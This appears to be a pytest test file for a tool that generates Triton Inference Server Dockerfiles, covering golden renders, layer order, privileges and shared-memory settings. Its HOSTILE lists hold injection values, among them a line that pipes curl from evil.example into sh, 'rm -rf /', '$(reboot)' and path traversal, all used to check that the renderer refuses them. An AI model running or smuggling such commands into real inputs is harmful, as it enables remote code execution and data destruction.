"""The serving Dockerfile: golden renders per CUDA version, layer order, and hostile values.

Golden files live in ``tests/golden/``; after an intended template change, regenerate them with
``TRITON_BUILDER_UPDATE_GOLDEN=1 pytest tests/unit/image/test_serving_dockerfile.py`` and review
the diff.
"""

from __future__ import annotations

import json
import os

import pytest

from builder.base.releases import resolve
from builder.bridge import plan_python
from builder.bridge.stub_build import render_stub_dockerfile
from builder.engine.dockerfile import DockerfileError
from builder.image.labels import LabelError, serving_labels
from builder.image.serving_dockerfile import (
    ServingOptions,
    layer_parts,
    render_serving_dockerfile,
)
from tests.support.paths import GOLDEN

GOLDEN = GOLDEN
PARTS = ("encoder", "head")
"""Two models' weights, as ContextPlan.weight_parts() gives them (largest first)."""
UPDATE = os.environ.get("TRITON_BUILDER_UPDATE_GOLDEN") == "1"


def _golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE:
        path.write_text(text)
    assert path.exists(), f"missing golden file {path}; run with TRITON_BUILDER_UPDATE_GOLDEN=1"
    assert text == path.read_text(), f"{name} differs from its golden file"


@pytest.mark.parametrize("cuda", ["11.4", "11.8", "12.4", "12.6", "13.0", None])
def test_golden_dockerfile(cuda):
    text = render_serving_dockerfile(resolve(cuda), weight_parts=PARTS)
    _golden(f"serving-{cuda or 'cpu'}.Dockerfile", text)


def test_golden_with_user_and_server_args():
    options = ServingOptions(user="triton", uid=1001, server_args=("--log-verbose=1",
                                                                    "--http-port=9000"))
    _golden("serving-cpu-user.Dockerfile", render_serving_dockerfile(
        resolve(None), options=options, weight_parts=PARTS))


def test_golden_two_stage_split():
    release = resolve("12.6")
    _golden("serving-12.6-payload.Dockerfile",
            render_serving_dockerfile(release, stage="payload", weight_parts=PARTS))
    _golden("serving-12.6-serving.Dockerfile",
            render_serving_dockerfile(release, stage="serving", payload_image="sha256:" + "a" * 64))


def _instructions(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


@pytest.mark.parametrize("cuda", ["11.8", None])
def test_layers_go_from_stable_to_volatile(cuda):
    lines = _instructions(render_serving_dockerfile(resolve(cuda), weight_parts=PARTS))
    copies = [line for line in lines if line.startswith("COPY")]
    assert copies == ["COPY environment/ /", "COPY weights/encoder/ /", "COPY weights/head/ /",
                      "COPY runtime/ /", "COPY code/ /"]
    assert lines[0].startswith("FROM ")
    assert lines[-1] == "COPY code/ /"  # code last: nothing after it but labels
    assert "EXPOSE 8000 8001 8002 8003" in lines
    assert any(line.startswith("HEALTHCHECK") and "/opt/triton-builder/health.py" in line
               for line in lines)
    assert "USER 1000:1000" in lines, "not root unless asked"
    locked = cuda is None  # Triton 2.51 restricts APIs; 22.12 (11.8) cannot
    assert (('CMD ["python3", "/opt/triton-builder/supervisor.py", "--lock-admin-apis", '
             '"tritonserver", "--model-repository=/models", "--model-control-mode=explicit", '
             '"--load-model=*", ' if locked else
             'CMD ["python3", "/opt/triton-builder/supervisor.py", "tritonserver", '
             '"--model-repository=/models", ')
            + '"--backend-config=python,shm-default-byte-size=4194304", '
            '"--backend-config=python,shm-growth-byte-size=1048576"]' in lines)


def test_a_model_control_mode_of_the_users_own_is_kept():
    """The supervisor reloads a model only with explicit model control: the image asks for it
    unless the user chose a mode (the supervisor then heals by restarting the server)."""
    options = ServingOptions(server_args=("--model-control-mode=poll",))
    assert options.command(resolve(None)) == [
        "python3", "/opt/triton-builder/supervisor.py", "--lock-admin-apis", "tritonserver",
        "--model-repository=/models", "--backend-config=python,shm-default-byte-size=4194304",
        "--backend-config=python,shm-growth-byte-size=1048576", "--model-control-mode=poll"]


@pytest.mark.parametrize("cuda", ["11.8", "12.1"])
def test_a_release_that_cannot_lock_its_repository_api_never_opens_it(cuda):
    """22.12 and 23.07 cannot restrict HTTP APIs (Triton 2.40, 23.11, brought that): their
    images run without explicit model control, so that no client can load code, and a user's
    explicit mode is refused, naming why."""
    release = resolve(cuda)
    assert not release.restricts_apis
    command = ServingOptions().command(release)
    assert "--lock-admin-apis" not in command
    assert not any(arg.startswith("--model-control-mode") or arg.startswith("--load-model")
                   for arg in command)
    with pytest.raises(DockerfileError, match=r"opens the repository API to every client.*"
                                              r"Triton 2.40, release 23.11"):
        ServingOptions(server_args=("--model-control-mode=explicit",)).command(release)


def test_restricting_an_api_the_image_locks_itself_is_refused_by_name():
    with pytest.raises(DockerfileError, match="restrict model-repository already"):
        ServingOptions(server_args=("--http-restricted-api=model-repository:k=v",))
    assert ServingOptions(server_args=("--http-restricted-api=inference:k=v",))


@pytest.mark.parametrize("user, uid, run_as, creates", [
    (None, 1000, "1000:1000", False), ("root", 1000, "root", False),
    ("triton", 1001, "triton", True)])
def test_images_run_as_an_unprivileged_user_unless_told(user, uid, run_as, creates):
    text = render_serving_dockerfile(resolve("12.6"), options=ServingOptions(user=user, uid=uid))
    assert f"USER {run_as}" in text.splitlines()
    assert ("useradd" in text) is creates


def test_the_healthcheck_follows_a_moved_http_port():
    text = render_serving_dockerfile(resolve(None),
                                     options=ServingOptions(server_args=("--http-port=9000",)))
    assert '"/opt/triton-builder/health.py", "--http-port=9000"]' in text


def test_only_the_gpu_image_sets_the_nvidia_runtime_variables():
    assert "NVIDIA_VISIBLE_DEVICES" in render_serving_dockerfile(resolve("12.6"))
    assert "NVIDIA_VISIBLE_DEVICES" not in render_serving_dockerfile(resolve(None))


def test_absent_layers_are_left_out():
    text = render_serving_dockerfile(resolve(None), has_environment=False)
    copies = [line for line in _instructions(text) if line.startswith("COPY")]
    assert copies == ["COPY runtime/ /", "COPY code/ /"]


def test_each_layer_is_named_by_the_step_that_makes_it():
    """The names restamp_image writes into the history, read off both stages as built."""
    release = resolve(None)
    payload = render_serving_dockerfile(release, stage="payload", weight_parts=PARTS)
    serving = render_serving_dockerfile(release, stage="serving",
                                        payload_image="sha256:" + "a" * 64)
    assert layer_parts(payload, serving) == [
        "environment", "weights of encoder", "weights of head", "runtime", "code"]
    user = ServingOptions(user="triton", uid=1001)
    assert layer_parts(render_serving_dockerfile(release, options=user))[:2] == [
        "user", "environment"]


def test_a_part_named_like_a_triton_model_may_begin_with_an_underscore():
    assert "COPY weights/_repository/ /" in render_serving_dockerfile(
        resolve(None), weight_parts=["_repository"])


@pytest.mark.parametrize("part", ["a b", "x\nRUN rm -rf /", "../../etc"])
def test_a_weights_part_that_is_not_one_plain_word_is_refused(part):
    with pytest.raises(DockerfileError):
        render_serving_dockerfile(resolve(None), weight_parts=[part])


HOSTILE = [
    "ubuntu\nRUN curl evil.example | sh",
    "ubuntu\r\nRUN id",
    "ubuntu $(reboot)",
    "ubuntu`reboot`",
    'ubuntu" && rm -rf / && echo "',
    "ubuntu' ; rm -rf / ; '",
    "ubuntu \\",
    "ubuntu\\",
    "-v",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_base_images_are_refused(hostile):
    with pytest.raises(DockerfileError):
        render_serving_dockerfile(resolve("11.8", base_image=hostile))
    with pytest.raises(DockerfileError):
        render_serving_dockerfile(resolve(None), stage="serving", payload_image=hostile)


@pytest.mark.parametrize("hostile", HOSTILE + ["Root", "a" * 33, "root;id", ""])
def test_hostile_users_are_refused(hostile):
    with pytest.raises(DockerfileError):
        ServingOptions(user=hostile)


@pytest.mark.parametrize("hostile", [
    "--log-verbose=1\nRUN id", "--a=1\rRUN id", "$(reboot)", "-v", "--x; rm -rf /", "",
])
def test_hostile_server_args_are_refused(hostile):
    with pytest.raises(DockerfileError):
        ServingOptions(server_args=(hostile,))


def test_server_args_with_quotes_stay_one_json_string():
    options = ServingOptions(server_args=('--backend-config=python,x="1" $(id) \\',))
    text = render_serving_dockerfile(resolve(None), options=options)
    cmd = [line for line in text.splitlines() if line.startswith("CMD")]
    assert len(cmd) == 1
    assert cmd[0].endswith(', "--backend-config=python,x=\\"1\\" $(id) \\\\"]')
    assert cmd[0].startswith('CMD ["python3", "/opt/triton-builder/supervisor.py", '
                             '"--lock-admin-apis", "tritonserver", "--model-repository=/models", '
                             '"--model-control-mode=explicit"')
    assert text.count("\nRUN") == 0


@pytest.mark.parametrize("path", ["models", "/models\nRUN id", "/models/../etc", "/my models",
                                  "/models$(id)"])
def test_hostile_model_repository_paths_are_refused(path):
    with pytest.raises(DockerfileError):
        ServingOptions(model_repository=path)


def test_labels_never_enter_the_dockerfile_and_keys_are_checked():
    text = render_serving_dockerfile(resolve(None))
    assert "LABEL" not in text
    labels = serving_labels(release=resolve(None), image_name="embed:1", base_digest="sha256:x",
                            environment_hash="e", signature={"x": 1},
                            extra={"org.opencontainers.image.source": "a\nRUN id $(x) \"'\\"})
    assert labels["org.opencontainers.image.source"] == "a\nRUN id $(x) \"'\\"
    for key in ("bad key", "a\nb", "$(id)", "ai.triton-builder.content-hash"):
        with pytest.raises(LabelError):
            serving_labels(release=resolve(None), image_name="embed:1", base_digest="x",
                           environment_hash="e", signature={}, extra={key: "v"})


@pytest.mark.parametrize("cuda, triton", [("11.8", None), ("12.4", None), ("12.6", None),
                                          ("12.6", "24.12"), ("13.0", None)])
def test_golden_dockerfile_with_the_bridge(cuda, triton):
    """A Python 3.11 pipeline on each release: the header says how its python models run;
    where the stub is compiled, the stub's build stage is golden too. CUDA 12.6 resolves to
    24.10 (a prebuilt wheel stub); 24.12, asked for by name, compiles r24.12."""
    release = resolve(cuda, triton, python_version="3.11")
    plan = plan_python(release, "3.11", conda=False)
    assert plan.bridged
    text = render_serving_dockerfile(release, options=ServingOptions(
        python_models=plan.describe()))
    assert "# Python models: bridged: Python 3.11 on nvcr.io/nvidia/tritonserver" in text
    _golden(f"serving-{cuda}{'-' + triton if triton else ''}-bridged-py3.11.Dockerfile", text)
    if plan.stub.kind == "compile":
        stub = render_stub_dockerfile(branch=plan.stub.branch, python_version="3.11",
                                      build_image_name=release.image, local_sources=False,
                                      gpu=release.gpu, python_image=plan.interpreter.image)
        assert f"FROM {release.image}" in stub and "-DTRITON_ENABLE_GPU=ON" in stub
        assert f"FROM {plan.interpreter.image} AS python" in stub
        assert "python3.11-dev" not in stub, "the release's distribution may not package 3.11"
        _golden(f"stub-{plan.stub.branch}-py3.11.Dockerfile", stub)


def test_golden_stub_dockerfile_with_pybind11_from_pypi():
    """Python 3.13 on CUDA 11.8: r22.12's own pybind11 (2.10) stops at 3.11."""
    release = resolve("11.8", python_version="3.13")
    plan = plan_python(release, "3.13", conda=False)
    stub = render_stub_dockerfile(branch=plan.stub.branch, python_version="3.13",
                                  build_image_name=release.image, local_sources=False,
                                  gpu=release.gpu, python_image=plan.interpreter.image,
                                  pybind11=plan.stub.pybind11)
    assert "COPY pybind11/ /opt/pybind11/" in stub
    assert "-Dpybind11_DIR=/opt/pybind11/pybind11/share/cmake/pybind11" in stub
    assert "FETCHCONTENT_SOURCE_DIR_PYBIND11" not in stub
    _golden("stub-r22.12-py3.13.Dockerfile", stub)


MIB = 1024 * 1024
SHM_DEFAULT_MINIMUM = {"r22.12": 4 * MIB, "r23.05": 4 * MIB, "r24.10": MIB, "r24.12": MIB,
                       "r25.11": MIB}
"""python_backend's ``src/python_be.cc`` of each branch in ../shared/triton-sources: r22.12 and
r23.05 reserve 64 MB per stub by default and refuse ``shm-default-byte-size`` below 4 MiB;
r24.10, r24.12 and r25.11 default to 1 MB and refuse below 1 MiB. All read
``shm-growth-byte-size`` (> 0) from the same ``--backend-config=python,...``."""


def _backend_config(command: list[str]) -> dict[str, int]:
    prefix = "--backend-config=python,"
    return {key: int(value) for arg in command if arg.startswith(prefix)
            for key, value in [arg.removeprefix(prefix).split("=", 1)]}


@pytest.mark.parametrize("cuda", ["11.8", "12.1", "12.6", "13.0", None])
def test_the_image_command_sizes_the_python_backends_shared_memory(cuda):
    """Docker's default /dev/shm is 64 MB, all of what r22.12 reserves for one stub: the image's
    own command sets every stub's region small enough for plain ``docker run IMAGE`` to load a
    dozen python models or instances, within what each branch accepts."""
    release = resolve(cuda)
    text = render_serving_dockerfile(release)
    cmd = next(line for line in text.splitlines() if line.startswith("CMD "))
    config = _backend_config(json.loads(cmd.removeprefix("CMD ")))
    default, growth = config["shm-default-byte-size"], config["shm-growth-byte-size"]
    assert default >= max(SHM_DEFAULT_MINIMUM.values()) and growth > 0
    assert 12 * (default + growth) <= 64 * MIB


def test_a_users_own_shared_memory_flag_replaces_ours():
    options = ServingOptions(server_args=(
        "--backend-config=python,shm-default-byte-size=67108864",))
    command = options.command(resolve(None))
    config = _backend_config(command)
    assert config["shm-default-byte-size"] == 64 * MIB
    assert command.count("--backend-config=python,shm-default-byte-size=67108864") == 1
    assert "shm-growth-byte-size" in config


def test_a_traced_image_forwards_the_trace_headers_where_its_triton_can():
    """Triton 2.33 (23.04) and later forward chosen headers into request parameters: a traced
    image's forwards W3C Trace Context's over HTTP and gRPC; 22.12's cannot (its clients send
    ``traceparent`` as a request parameter); an untraced image forwards nothing."""
    pattern = "^(traceparent|tracestate)$"
    command = ServingOptions(tracing=True).command(resolve(None))
    assert [arg for arg in command if "header-forward" in arg] == [
        f"--http-header-forward-pattern={pattern}", f"--grpc-header-forward-pattern={pattern}"]
    assert not any("header-forward" in arg for arg in ServingOptions().command(resolve(None)))
    old = resolve("11.8", triton_version="22.12")
    assert not old.forwards_headers
    assert not any("header-forward" in arg for arg in
                   ServingOptions(tracing=True).command(old))
    own = ServingOptions(tracing=True, server_args=("--grpc-header-forward-pattern=.*",))
    assert [arg for arg in own.command(resolve(None)) if "header-forward" in arg] == [
        f"--http-header-forward-pattern={pattern}", "--grpc-header-forward-pattern=.*"]
